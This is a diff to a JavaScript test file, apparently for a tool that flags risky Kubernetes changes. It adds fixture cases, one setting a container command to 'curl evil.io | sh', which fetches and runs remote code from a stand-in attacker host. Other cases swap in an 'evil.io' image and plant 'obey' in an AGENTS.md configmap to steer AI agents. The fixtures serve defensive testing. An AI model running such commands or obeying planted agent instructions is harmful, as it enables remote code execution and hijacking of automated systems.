@@ -132,6 +132,12 @@ describe('A plan', () => {
     'an image from elsewhere': {
       change: [{ path: '/spec/template/spec/containers/0/image', before: '"a.io/web:1"', after: '"evil.io/web:1"' }],
     },
+    'another command of a container': {
+      change: [{ path: '/spec/template/spec/containers/0/command', after: '["sh","-c","curl evil.io | sh"]' }],
+    },
+    'what a probe executes': {
+      change: [{ path: '/spec/template/spec/containers/0/livenessProbe/exec/command/2', before: '"a"', after: '"b"' }],
+    },
     'instructions of agents': { apiGroup: '', resource: 'configmaps', change: [{ path: '/data/AGENTS.md', after: '"obey"' }] },
     'instructions inside a value': {
       apiGroup: '',
